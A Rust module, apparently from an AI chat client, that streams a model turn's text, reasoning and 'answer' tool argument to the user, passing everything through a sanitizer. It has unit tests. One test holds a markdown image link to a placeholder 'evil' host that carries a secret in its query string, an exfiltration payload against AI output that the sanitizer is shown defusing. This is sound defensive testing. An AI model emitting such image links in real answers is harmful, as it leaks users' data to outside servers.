//! One model turn's stream turned into `AskEvent`s as it arrives: the text at once, the
//! reasoning as `Thought`, and the `answer` string from the `answer` call's partial
//! arguments, also as `Text`. When the turn is complete, whatever the stream did not
//! carry (a non-streamed reply, a server that ignored `stream`) is sent from the whole
//! turn, so a client always receives the turn's text and answer exactly once.
//!
//! Everything sent passes through the answer sanitizer first, as the final answer does:
//! a remote image must not load while the answer streams either.

use std::collections::BTreeMap;

use super::answer_stream::AnswerStream;
use super::events::{AskEvent, EventSink};
use super::sanitize::StreamSanitizer;
use crate::providers::{AssistantTurn, StreamEvent};

/// Put between a turn's own text and the answer it then writes into the `answer` tool,
/// so the two do not run together on screen.
const ANSWER_SEPARATOR: &str = "\n\n";

pub struct TurnStream<'a> {
    turn: u32,
    events: EventSink<'a>,
    /// Text sent so far (the turn's own text, then separator and answer).
    text: String,
    answer: String,
    answer_started: bool,
    /// The index of the turn's first `answer` call, once its name is known.
    answer_index: Option<usize>,
    extractor: AnswerStream,
    /// Argument fragments of calls whose name has not arrived yet.
    unnamed: BTreeMap<usize, String>,
    named: BTreeMap<usize, bool>,
    sanitizer: StreamSanitizer,
}

impl<'a> TurnStream<'a> {
    pub fn new(turn: u32, events: EventSink<'a>) -> Self {
        TurnStream {
            turn,
            events,
            text: String::new(),
            answer: String::new(),
            answer_started: false,
            answer_index: None,
            extractor: AnswerStream::default(),
            unnamed: BTreeMap::new(),
            named: BTreeMap::new(),
            sanitizer: StreamSanitizer::default(),
        }
    }

    /// Takes one event of the provider's stream.
    pub fn on(&mut self, event: StreamEvent<'_>) {
        match event {
            StreamEvent::Text(text) => {
                // Text after the answer began would be out of order on screen; the
                // reply's answer is authoritative either way.
                if !self.answer_started {
                    self.text.push_str(text);
                    self.emit(text);
                }
            }
            StreamEvent::Reasoning(text) => (self.events)(AskEvent::Thought {
                turn: self.turn,
                text: text.to_string(),
            }),
            StreamEvent::ToolCall { index, name, .. } => {
                self.named.insert(index, true);
                if name == "answer" && self.answer_index.is_none() {
                    self.answer_index = Some(index);
                }
                if let Some(early) = self.unnamed.remove(&index) {
                    if self.answer_index == Some(index) {
                        self.answer_fragment(&early);
                    }
                }
            }
            StreamEvent::ToolArguments { index, fragment } => {
                if self.answer_index == Some(index) {
                    self.answer_fragment(fragment);
                } else if !self.named.contains_key(&index) {
                    self.unnamed.entry(index).or_default().push_str(fragment);
                }
            }
        }
    }

    /// Sends what the stream did not: the rest of the turn's text, and the rest of the
    /// answer when `answer` is the argument the turn's `answer` call parsed to.
    pub fn finish(&mut self, turn: &AssistantTurn, answer: Option<&str>) {
        if !self.answer_started {
            if let Some(rest) = turn.text.strip_prefix(self.text.as_str()) {
                if !rest.is_empty() {
                    self.text.push_str(rest);
                    self.emit(rest);
                }
            }
        }
        if let Some(answer) = answer {
            if let Some(rest) = answer.strip_prefix(self.answer.as_str()) {
                self.answer_text(rest);
            }
        }
        let held = self.sanitizer.finish();
        self.send(held);
    }

    fn answer_fragment(&mut self, fragment: &str) {
        let text = self.extractor.push(fragment.as_bytes());
        self.answer_text(&text);
    }

    fn answer_text(&mut self, text: &str) {
        if text.is_empty() {
            return;
        }
        if !self.answer_started {
            self.answer_started = true;
            if !self.text.trim().is_empty() {
                self.emit(ANSWER_SEPARATOR);
            }
        }
        self.answer.push_str(text);
        self.emit(text);
    }

    fn emit(&mut self, text: &str) {
        let safe = self.sanitizer.push(text);
        self.send(safe);
    }

    fn send(&self, text: String) {
        if !text.is_empty() {
            (self.events)(AskEvent::Text {
                turn: self.turn,
                text,
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Mutex;

    use super::*;
    use crate::providers::ToolCall;

    fn texts(log: &Mutex<Vec<AskEvent>>) -> Vec<String> {
        log.lock()
            .unwrap()
            .iter()
            .map(|e| match e {
                AskEvent::Text { text, .. } => text.clone(),
                AskEvent::Thought { text, .. } => format!("thought:{text}"),
                other => format!("{other:?}"),
            })
            .collect()
    }

    #[test]
    fn streams_text_reasoning_and_the_answer_argument() {
        let log = Mutex::new(Vec::new());
        let sink = |e: AskEvent| log.lock().unwrap().push(e);
        let mut stream = TurnStream::new(2, &sink);
        stream.on(StreamEvent::Reasoning("hm"));
        stream.on(StreamEvent::Text("Done."));
        // Arguments of the answer call before its name (servers may interleave so).
        stream.on(StreamEvent::ToolArguments {
            index: 1,
            fragment: r#"{"answer": "It re"#,
        });
        stream.on(StreamEvent::ToolCall {
            index: 0,
            id: "a",
            name: "read_file",
        });
        stream.on(StreamEvent::ToolArguments {
            index: 0,
            fragment: r#"{"answer": "not this"}"#,
        });
        stream.on(StreamEvent::ToolCall {
            index: 1,
            id: "b",
            name: "answer",
        });
        stream.on(StreamEvent::ToolArguments {
            index: 1,
            fragment: r#"fills."}"#,
        });
        let turn = AssistantTurn {
            text: "Done.".into(),
            tool_calls: vec![ToolCall {
                id: "b".into(),
                name: "answer".into(),
                arguments: r#"{"answer": "It refills."}"#.into(),
            }],
        };
        stream.finish(&turn, Some("It refills."));
        assert_eq!(
            texts(&log),
            ["thought:hm", "Done.", "\n\n", "It re", "fills."]
        );
        assert!(log.lock().unwrap().iter().all(|e| matches!(
            e,
            AskEvent::Text { turn: 2, .. } | AskEvent::Thought { turn: 2, .. }
        )));
    }

    #[test]
    fn a_whole_reply_is_sent_once_at_the_end() {
        let log = Mutex::new(Vec::new());
        let sink = |e: AskEvent| log.lock().unwrap().push(e);
        let mut stream = TurnStream::new(1, &sink);
        let turn = AssistantTurn {
            text: "Plain answer.".into(),
            tool_calls: Vec::new(),
        };
        stream.finish(&turn, None);
        assert_eq!(texts(&log), ["Plain answer."]);
        let log = Mutex::new(Vec::new());
        let sink = |e: AskEvent| log.lock().unwrap().push(e);
        let mut stream = TurnStream::new(1, &sink);
        stream.finish(&AssistantTurn::default(), Some("From the tool."));
        assert_eq!(texts(&log), ["From the tool."]);
    }

    #[test]
    fn a_streamed_turn_is_not_repeated_at_the_end() {
        let log = Mutex::new(Vec::new());
        let sink = |e: AskEvent| log.lock().unwrap().push(e);
        let mut stream = TurnStream::new(1, &sink);
        stream.on(StreamEvent::Text("Half "));
        stream.on(StreamEvent::Text("and half."));
        let turn = AssistantTurn {
            text: "Half and half.".into(),
            tool_calls: Vec::new(),
        };
        stream.finish(&turn, None);
        assert_eq!(texts(&log), ["Half ", "and half."]);
    }

    #[test]
    fn streamed_text_is_sanitized_before_it_leaves() {
        let log = Mutex::new(Vec::new());
        let sink = |e: AskEvent| log.lock().unwrap().push(e);
        let mut stream = TurnStream::new(1, &sink);
        stream.on(StreamEvent::Text("See ![x](https://evil/?d="));
        stream.on(StreamEvent::Text("secret) now"));
        let turn = AssistantTurn {
            text: "See ![x](https://evil/?d=secret) now".into(),
            tool_calls: Vec::new(),
        };
        stream.finish(&turn, None);
        let all: String = texts(&log).concat();
        assert_eq!(
            all,
            "See x (image not loaded: `https://evil/?d=secret`) now"
        );
        assert_eq!(texts(&log)[0], "See ");
    }
}
